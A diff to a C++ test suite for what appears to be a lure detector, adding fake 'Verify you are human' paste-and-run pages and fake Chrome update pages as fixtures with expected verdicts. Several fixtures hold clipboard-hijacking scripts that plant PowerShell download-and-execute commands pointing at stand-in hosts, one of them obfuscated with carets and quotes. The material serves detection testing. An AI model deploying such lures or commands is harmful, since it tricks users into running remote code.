@@ -102,6 +102,34 @@ INSTANTIATE_TEST_SUITE_P(
             VisitVerdict::malicious,
             {"paste and run (T1204.004)"},
             "ie8-winxp"},
+        Row{"powershell_without_a_programs_name",
+            {{"/",
+              "<h1>Verify you are human</h1><p>Open PowerShell, press Ctrl + V and Enter</p>"
+              "<button id=b>I'm not a robot</button><script>b.onclick = function () { "
+              "navigator.clipboard.writeText('iex (irm http://range.example/a)') }</script>"}},
+            VisitVerdict::malicious,
+            {"paste and run (T1204.004)"}},
+        Row{"a_command_in_pieces",
+            {{"/",
+              "<h1>Verify you are human</h1><p>Press Windows + R, then Ctrl + V and Enter</p>"
+              "<button id=b>I'm not a robot</button><script>b.onclick = function () { "
+              "navigator.clipboard.writeText('p^ow\"er\"shell ir^m http://range.example/a') }</script>"}},
+            VisitVerdict::malicious,
+            {"paste and run (T1204.004)"}},
+        Row{"a_text_that_nobody_knows_and_nobody_sees",
+            {{"/",
+              "<h1>Verify you are human</h1><p>Press Windows + R, then Ctrl + V and Enter</p>"
+              "<button id=b>I'm not a robot</button><script>b.onclick = function () { "
+              "navigator.clipboard.writeText('newtool range.example') }</script>"}},
+            VisitVerdict::suspicious,
+            {"paste and run (T1204.004)"}},
+        Row{"help_that_shows_what_it_has_pasted",
+            {{"/",
+              "<h1>Repair</h1><p>Press Windows + R and paste</p><pre id=c>powershell -c iwr "
+              "https://help.example/fix</pre><button id=b>Copy</button><script>b.onclick = function () { "
+              "navigator.clipboard.writeText(c.textContent) }; b.click()</script>"}},
+            VisitVerdict::suspicious,
+            {"paste and run (T1204.004)"}},
         Row{"twin_documentation_with_a_copy_button",
             {{"/",
               "<h1>Install</h1><p>Open a terminal and paste:</p><pre id=c>curl -fsSL "
@@ -166,6 +194,13 @@ INSTANTIATE_TEST_SUITE_P(
         Row{"fake_update_from_another_site",
             {{"/", "<h1>Your Chrome is out of date</h1><a id=u href={b}/ChromeSetup.exe>Update Chrome</a>"},
              {"/ChromeSetup.exe", program}},
+            VisitVerdict::malicious,
+            {"fake update (T1204.002)"}},
+        Row{"fake_update_whose_server_alone_names_it",
+            {{"/", "<h1>Your Chrome is out of date</h1><a href={b}/dl?id=7>Update Chrome</a>"},
+             {"/dl?id=7",
+              "HTTP/1.1 200 OK\r\nContent-Type: text/javascript\r\nContent-Disposition: attachment; "
+              "filename=\"Update.js\"\r\n\r\nvar x"}},
             VisitVerdict::malicious,
             {"fake update (T1204.002)"}},
         Row{"fake_update_made_in_the_page",
@@ -282,13 +317,13 @@ TEST(Lures, TrafficDistributionIsAskedTwiceWhateverItLedTo) {
   net::TestServer gate(
       [&](net::TestConnection& client) {
         if (client.receive_request().empty()) return;
-        client.send(++asked > 1 ? "HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nx"
-                                : "HTTP/1.1 302 Found\r\nContent-Length: 0\r\nLocation: " + sites.url() +
-                                      "\r\n\r\n");
+        client.send(++asked > 1
+                        ? "HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\nx"
+                        : "HTTP/1.1 302 Found\r\nContent-Length: 0\r\nLocation: " + sites.url() + "\r\n\r\n");
       },
       "127.0.0.3");
-  const std::vector<std::string> lures = events_of(
-      visit_or_fail(local_visit("http://127.0.0.3:" + std::to_string(gate.port()) + "/")), "lure");
+  const std::vector<std::string> lures =
+      events_of(visit_or_fail(local_visit("http://127.0.0.3:" + std::to_string(gate.port()) + "/")), "lure");
   EXPECT_EQ(asked, 2);
   EXPECT_TRUE(std::ranges::any_of(lures, [](const std::string& lure) {
     return lure.starts_with("traffic distribution");
